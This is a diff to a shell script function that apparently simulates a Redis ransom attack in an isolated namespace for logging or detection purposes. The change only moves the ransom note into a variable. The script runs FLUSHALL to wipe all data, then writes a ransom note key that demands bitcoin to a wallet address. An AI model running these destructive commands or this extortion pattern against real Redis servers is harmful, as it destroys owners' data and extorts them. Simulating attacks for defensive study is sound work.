@@ -142,8 +142,9 @@ sc_redis_flushall() {
     step dbsize "$ip" redis-cli "{\"keys\": $out}" redis-cli DBSIZE
     out=$(in_ns "${CLI[@]}" FLUSHALL)
     step flushall "$ip" redis-cli "\"$out\"" redis-cli FLUSHALL
-    out=$(in_ns "${CLI[@]}" SET READ_ME_TO_RECOVER_YOUR_DATA "All your data is backed up. You must pay 0.05 BTC to 1Kz6v4B5CawcnCXYZ1ffQg4mGyeDd7QM7e to recover it. After paying email recover@example.com with your server IP.")
-    step ransom_note "$ip" redis-cli "\"$out\"" redis-cli SET READ_ME_TO_RECOVER_YOUR_DATA "<ransom note text, 146 bytes>"
+    local note="All your data is backed up. You must pay 0.05 BTC to 1Kz6v4B5CawcnCXYZ1ffQg4mGyeDd7QM7e to recover it. After paying email recover@example.com with your server IP."
+    out=$(in_ns "${CLI[@]}" SET READ_ME_TO_RECOVER_YOUR_DATA "$note")
+    step ransom_note "$ip" redis-cli "\"$out\"" redis-cli SET READ_ME_TO_RECOVER_YOUR_DATA "<ransom note text, ${#note} bytes>"
     out=$(in_ns "${CLI[@]}" DBSIZE)
     step dbsize_after "$ip" redis-cli "{\"keys\": $out}" redis-cli DBSIZE
     finish "ransom pattern from outside: INFO, DBSIZE (300), FLUSHALL, SET READ_ME_TO_RECOVER_YOUR_DATA, DBSIZE (1); one redis-cli connection per command" \
